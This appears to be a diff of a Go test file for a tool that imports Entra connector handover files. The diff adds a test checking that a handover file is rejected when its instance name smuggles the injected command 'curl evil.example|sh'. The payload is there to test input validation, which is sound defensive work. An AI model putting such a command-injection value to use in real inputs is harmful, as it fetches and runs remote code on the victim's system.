@@ -32,13 +32,13 @@ func handedOver() (*report.HandoverFile, View) {
 		return report.HandoverPermission{ResourceAppID: entra.GraphAppID, ID: id, Name: name, Kind: entra.ApplicationPermission}
 	}
 	return &report.HandoverFile{
-		Format: report.HandoverFormat, Version: report.HandoverVersion, TenantID: fileTenant, Domain: "contoso.example", Cloud: "global", Definition: "snow-atlas",
-		ClientID: fileClient, ObjectID: filePrincipal, PrincipalID: filePrincipal,
-		Permissions: []report.HandoverPermission{listed("Group.Read.All", readGroups), listed("User.Read.All", readUsers)},
-	}, View{
-		Live:   entra.Connector{App: &entra.Application{AppID: fileClient}, Principal: &entra.ServicePrincipal{ObjectID: filePrincipal}},
-		Wanted: []plan.Wanted{wanted("User.Read.All", readUsers), wanted("Group.Read.All", readGroups)},
-	}
+			Format: report.HandoverFormat, Version: report.HandoverVersion, TenantID: fileTenant, Domain: "contoso.example", Cloud: "global", Definition: "snow-atlas",
+			ClientID: fileClient, ObjectID: filePrincipal, PrincipalID: filePrincipal,
+			Permissions: []report.HandoverPermission{listed("Group.Read.All", readGroups), listed("User.Read.All", readUsers)},
+		}, View{
+			Live:   entra.Connector{App: &entra.Application{AppID: fileClient}, Principal: &entra.ServicePrincipal{ObjectID: filePrincipal}},
+			Wanted: []plan.Wanted{wanted("User.Read.All", readUsers), wanted("Group.Read.All", readGroups)},
+		}
 }
 
 func TestAHandOverFileFitsOnlyTheConnectorAndListThatItNames(t *testing.T) {
@@ -96,5 +96,24 @@ func TestAHandOverFileOfAnotherTenantOrNoneIsRefusedBeforeAnythingIsRead(t *test
 		if want == problem.Refused && (!strings.Contains(p.What, "contoso.example") || !strings.Contains(p.Why, "fabrikam.example")) {
 			t.Errorf("neither tenant is named: %q %q", p.What, p.Why)
 		}
+	}
+}
+
+func TestAHandOverFileWithAnInstanceThatNobodyCanNameIsRefusedBeforeAnythingIsRead(t *testing.T) {
+	f, _ := handedOver()
+	f.Instance = "main; curl evil.example|sh"
+	data, err := json.Marshal(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(t.TempDir(), "handover.json")
+	if err := os.WriteFile(file, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s := signedIn(&definition.Definition{ID: "snow-atlas"})
+	_, err = s.OpenHandover(t.Context(), file)
+	var p *problem.Problem
+	if !errors.As(err, &p) || p.Kind != problem.BadInput {
+		t.Errorf("%v", err)
 	}
 }
